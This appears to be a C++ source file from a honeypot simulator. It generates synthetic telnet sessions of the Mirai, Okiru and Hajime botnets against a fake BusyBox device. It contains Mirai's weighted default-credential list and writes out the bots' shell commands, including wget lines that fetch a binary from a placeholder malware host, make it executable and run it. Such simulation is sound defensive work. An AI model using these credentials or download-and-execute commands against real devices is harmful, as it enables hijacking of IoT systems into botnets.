// Telnet sessions of Mirai (its loader too), of its descendants and of Hajime, with a pot that looks like a device with BusyBox.
#include <array>
#include <span>

#include "simulate/conversation_plan.hpp"

namespace nightjar::simulate {
namespace {

using namespace std::string_literals;

struct Credential {
  std::string_view user, password;
  double weight;
};

// The five heaviest of Mirai's list with its weights (62 pairs of 152 together); then other factory settings of the list, which
// stand for the rest of it.
constexpr std::array kCredentials = {
    Credential{"root", "xc3511", 10},   Credential{"root", "vizxv", 9},      Credential{"root", "admin", 8},
    Credential{"admin", "admin", 7},    Credential{"root", "888888", 6},     Credential{"root", "xmhdipc", 5},
    Credential{"root", "default", 5},   Credential{"root", "juantech", 5},   Credential{"root", "123456", 5},
    Credential{"root", "54321", 5},     Credential{"support", "support", 5}, Credential{"root", "", 4},
    Credential{"admin", "password", 4}, Credential{"root", "root", 4},       Credential{"root", "12345", 4},
    Credential{"user", "user", 3},      Credential{"admin", "", 3},          Credential{"root", "pass", 3},
    Credential{"admin", "smcadmin", 2}, Credential{"guest", "guest", 1},     Credential{"ubnt", "ubnt", 1},
};

const Credential& draw_credential(Random& random) {
  static const WeightedChoice kChoice([] {
    std::vector<double> weights;
    for (const Credential& credential : kCredentials) weights.push_back(credential.weight);
    return weights;
  }());
  return kCredentials[kChoice.draw(random)];
}

constexpr std::string_view kPrompt = "# ";

/// DO NAWS, and login: programs that look for devices wait for the former.
void negotiate(Dialogue& talk) {
  talk.pot("\xff\xfd\x1f"s, 0.002);
  // WILL NAWS, then 80 columns and 24 rows (RFC 1073), in two calls of send.
  talk.visitor("\xff\xfb\x1f"s, 0.3);
  talk.visitor("\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"s, 0.0002);
  talk.pot("\r\nHGW login: ", 0.02);
}

void log_in(Dialogue& talk, const VisitTold::Login& login) {
  negotiate(talk);
  // The word and the end of its line in two calls of send, as Mirai does.
  talk.visitor(login.user, 0.2);
  talk.visitor("\r\n", 0.0002);
  talk.pot(login.user + "\r\nPassword: ");
  talk.visitor(login.password, 0.2);
  talk.visitor("\r\n", 0.0002);
  if (login.accepted)
    talk.pot("\r\n\r\nBusyBox v1.19.4 (2014-07-03) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ", 0.05);
  else
    talk.pot("\r\nLogin incorrect\r\n", 1.5);
}

/// A command, its echo, the answer, and the next prompt.
void command(Dialogue& talk, VisitPlan& plan, const std::string& line, const std::string& answer) {
  talk.visitor(line + "\r\n", 0.15);
  talk.pot(line + "\r\n" + answer + std::string(kPrompt));
  plan.commands.push_back(line);
}

std::string not_found(std::string_view program) { return "-sh: " + std::string(program) + ": not found\r\n"; }
std::string no_applet(std::string_view token) { return std::string(token) + ": applet not found\r\n"; }

/// The words that get a shell out of the menus of many devices.
void ask_for_shell(Dialogue& talk, VisitPlan& plan) {
  command(talk, plan, "enable", not_found("enable"));
  command(talk, plan, "system", not_found("system"));
  command(talk, plan, "shell", not_found("shell"));
  command(talk, plan, "sh", "");
}

/// What a dump of a small ELF file begins with: its header, which tells the processor (MIPS, big endian; ELF specification, chapter 1).
std::string elf_header() {
  return "\x7f\x45LF\x01\x02\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x08\x00\x00\x00\x01\x00\x40\x02\x60\x00\x00\x00\x34"
         "\x00\x00\x00\x00\x00\x00\x10\x07\x00\x34\x00\x20\x00\x00\x00\x00\x00\x00\x00\x00"s;
}

/// The bot tries until it is let in or has no more tries, each on a connection of its own.
bool try_credentials(VisitPlan& plan, Random& random, std::string_view token) {
  constexpr int kMostTries = 10;  // scanner.c
  for (int i = 0; i < kMostTries; ++i) {
    const Credential& credential = draw_credential(random);
    VisitTold::Login login{std::string(credential.user), std::string(credential.password), random.below(3) == 0};
    Dialogue talk;
    talk.pause_s = i == 0 ? 0 : 0.8;
    log_in(talk, login);
    plan.logins.push_back(login);
    if (login.accepted) {
      ask_for_shell(talk, plan);
      command(talk, plan, "/bin/busybox " + std::string(token), no_applet(token));
      talk.ending = random.below(4) == 0 ? Ending::visitor_resets : Ending::visitor_closes;
      plan.dialogues.push_back(std::move(talk));
      return true;
    }
    talk.ending = random.below(2) == 0 ? Ending::visitor_closes : Ending::pot_closes;
    plan.dialogues.push_back(std::move(talk));
    if (random.below(8) == 0) return false;  // switched off meanwhile
  }
  return false;
}

/// Another host, which has got the password from the bot, looks around and loads the bot's program.
void load(const VisitPlace& place, VisitPlan& plan, Random& random, std::string_view family) {
  const std::string ask = "; /bin/busybox ECCHI", answer = no_applet("ECCHI");
  Dialogue talk;
  talk.from_loader = true;
  talk.pause_s = 6;
  log_in(talk, plan.logins.back());
  plan.logins.push_back(plan.logins.back());
  ask_for_shell(talk, plan);
  command(talk, plan, "/bin/busybox ECCHI", answer);
  command(talk, plan, "/bin/busybox ps" + ask, "  PID USER       VSZ STAT COMMAND\r\n    1 root      1520 S    init\r\n" + answer);
  command(talk, plan, "/bin/busybox cat /proc/mounts" + ask,
          "rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro,relatime 0 0\r\ntmpfs /var tmpfs rw,relatime 0 0\r\n" + answer);
  command(talk, plan, "cd /var/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper" + ask, answer);
  command(talk, plan, "/bin/busybox cat /bin/echo" + ask, elf_header() + answer);
  command(talk, plan, "/bin/busybox wget; /bin/busybox tftp" + ask,
          "BusyBox v1.19.4 (2014-07-03) multi-call binary.\r\n\r\nUsage: wget [-c] [-O FILE] URL\r\n\r\n" + no_applet("tftp") + answer);
  const std::string url = "http://" + std::string(place.malware_host) + ":80/bins/" + std::string(family) + ".mips";
  plan.urls.push_back(url);
  command(talk, plan, "/bin/busybox wget " + url + " -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper" + ask,
          "wget: can't connect to remote host\r\n" + answer);
  talk.ending = random.below(3) == 0 ? Ending::visitor_resets : Ending::visitor_closes;
  plan.dialogues.push_back(std::move(talk));
}

std::string random_token(Random& random) {
  std::string token;
  for (int i = 0; i < 5; ++i) token += static_cast<char>('A' + random.below(26));
  return token;
}

}  // namespace

void plan_mirai(const VisitPlace& place, Random& random, VisitPlan& plan) {
  if (try_credentials(plan, random, "MIRAI") && random.below(2) == 0) load(place, plan, random, "mirai");
}

void plan_okiru(const VisitPlace& place, Random& random, VisitPlan& plan) {
  if (try_credentials(plan, random, "OKIRU") && random.below(2) == 0) load(place, plan, random, "okiru");
}

void plan_hajime_telnet(const VisitPlace& place, Random& random, VisitPlan& plan) {
  const Credential& credential = draw_credential(random);
  plan.logins.push_back({std::string(credential.user), std::string(credential.password), random.below(4) != 0});
  plan.dialogues.resize(1);
  Dialogue& talk = plan.dialogues.front();
  log_in(talk, plan.logins.front());
  talk.ending = Ending::visitor_closes;
  if (!plan.logins.front().accepted) return;
  // A name of its own for each visit; what is not found marks the end of an answer.
  const std::string token = random_token(random), ask = "; /bin/busybox " + token, answer = no_applet(token);
  ask_for_shell(talk, plan);
  command(talk, plan, "cat /proc/mounts" + ask, "rootfs / rootfs rw 0 0\r\ntmpfs /var tmpfs rw,relatime 0 0\r\n" + answer);
  command(talk, plan, "cd /var; cat .s || cp /bin/echo .s" + ask, "cat: can't open '.s': No such file or directory\r\n" + answer);
  command(talk, plan, "tftp; wget" + ask, not_found("tftp") + "Usage: wget [-c] [-O FILE] URL\r\n" + answer);
  command(talk, plan, "dd bs=52 count=1 if=.s || cat .s" + ask, elf_header() + "1+0 records in\r\n1+0 records out\r\n" + answer);
  const std::string url = "http://" + std::string(place.malware_host) + ":" + std::to_string(1'024 + random.below(60'000)) + "/.i";
  plan.urls.push_back(url);
  command(talk, plan, "rm .s; wget " + url + "; chmod +x .i; ./.i; exit", "wget: can't connect to remote host\r\n");
}

}  // namespace nightjar::simulate
